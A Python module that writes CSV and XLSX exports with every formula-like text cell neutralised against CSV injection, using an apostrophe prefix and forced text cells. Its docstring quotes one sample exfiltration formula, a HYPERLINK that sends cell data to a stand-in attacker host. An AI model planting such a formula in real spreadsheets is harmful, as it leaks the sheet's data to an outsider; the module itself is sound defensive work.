"""Spreadsheets the project writes: every CSV and XLSX goes through here, safe to open.

Text from users (an imported row, a city or district name, a content entry, an OSM name) may
start with ``=``, ``+``, ``-`` or ``@``; a spreadsheet program that opens the file would run it
as a formula, for example ``=HYPERLINK("http://evil.example/?d="&A1,"Almaty")`` sending the
sheet's data to a stranger (OWASP "CSV injection"). So:

- in CSV, a text cell that starts with such a character (or a tab or carriage return) gets a
  leading apostrophe, the OWASP rule, which Excel and LibreOffice show as plain text;
- in XLSX, every text cell is written as a text cell (never a formula) and such a cell is also
  marked "quote prefix", as Excel does when a person types ``'=...``; the text stays as it was,
  except for control characters, which XLSX cannot hold and are dropped.

Reading a file back, `unquote_cell` removes the apostrophe again, so an export imports unchanged.

Numbers, dates and booleans are written as they are: only text can carry a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
from openpyxl.cell import WriteOnlyCell

LINE_END = "\r\n"
"""CSV rows end in CRLF (RFC 4180), so a cell holding a carriage return is quoted and can never
start a row of its own (a bare CR ends a row for most readers)."""
_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""First characters that make a spreadsheet program read a cell as a formula."""

_SHEET_NAME_CHARS = str.maketrans(dict.fromkeys("[]:*?/\\", "_"))


def is_formula_like(value: object) -> bool:
    """Return whether `value` is text a spreadsheet program could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def unquote_cell(value: object) -> object:
    """Return an imported cell without the apostrophe that `csv_cell` put before a formula."""
    if isinstance(value, str) and value.startswith("'") and is_formula_like(value[1:]):
        return value[1:]
    return value


def csv_cell(value: object) -> object:
    """Return `value` ready for a CSV cell: formula-like text gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value  # type: ignore[operator]


def rows_csv_bytes(
    header: Sequence[object], rows: Iterable[Sequence[object]], *, encoding: str = "utf-8"
) -> bytes:
    """Return a header and rows as CSV bytes, with every formula-like text neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=LINE_END)
    writer.writerow([csv_cell(_plain(v)) for v in header])
    writer.writerows([csv_cell(_plain(v)) for v in row] for row in rows)
    return buffer.getvalue().encode(encoding)


def csv_bytes(frame: pd.DataFrame, *, encoding: str = "utf-8", index: bool = False) -> bytes:
    """Return `frame` as CSV bytes (pandas' layout), with every formula-like text neutralised.

    Parameters
    ----------
    frame
        The table; with `index` its index becomes the first column(s).
    encoding
        ``"utf-8-sig"`` adds the byte-order mark Excel needs to read Cyrillic from a CSV.
    index
        Whether to write the index.
    """
    table = frame.reset_index() if index else frame
    text_columns = [
        c
        for c, dtype in table.dtypes.items()
        if not pd.api.types.is_numeric_dtype(dtype)
        and not pd.api.types.is_datetime64_any_dtype(dtype)
    ]
    safe = table.copy()
    for col in text_columns:
        safe[col] = table[col].map(csv_cell, na_action="ignore")
    safe.columns = [csv_cell(c) for c in table.columns]
    return safe.to_csv(index=False, lineterminator=LINE_END).encode(encoding)


def xlsx_bytes(sheets: Mapping[str, pd.DataFrame], *, index: bool = False) -> bytes:
    """Return sheets (name -> table) as an XLSX workbook in which no text is a formula.

    Sheet names are cut to Excel's 31 characters, with the characters it refuses replaced.
    """
    book = openpyxl.Workbook(write_only=True)
    for name, frame in sheets.items():
        sheet = book.create_sheet(title=str(name).translate(_SHEET_NAME_CHARS)[:31] or "sheet")
        table = frame.reset_index() if index else frame
        sheet.append([_xlsx_cell(sheet, v) for v in table.columns])
        for row in _rows(table):
            sheet.append([_xlsx_cell(sheet, v) for v in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rows_xlsx_bytes(
    sheets: Mapping[str, tuple[Sequence[object], Iterable[Sequence[object]]]],
) -> bytes:
    """Return sheets given as name -> (header, rows) as an XLSX workbook (see `xlsx_bytes`)."""
    frames = {
        name: pd.DataFrame(list(rows), columns=list(header))
        for name, (header, rows) in sheets.items()
    }
    return xlsx_bytes(frames)


def _rows(frame: pd.DataFrame) -> Iterable[Sequence[object]]:
    return frame.itertuples(index=False, name=None)


def _plain(value: object) -> object:
    """Return a cell value as a plain Python value (None for missing)."""
    if value is None or value is pd.NaT:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.isoformat()
    if isinstance(value, str | int | float | bool | dt.date | dt.time):
        return value
    if value is pd.NA:
        return None
    return str(value)


def _xlsx_cell(sheet: Any, value: object) -> WriteOnlyCell:
    value = _plain(value)
    if isinstance(value, str):
        value = _ILLEGAL_XLSX.sub("", value)  # control characters XLSX cannot hold
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # text, whatever it starts with: openpyxl would make "=..." a formula
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell
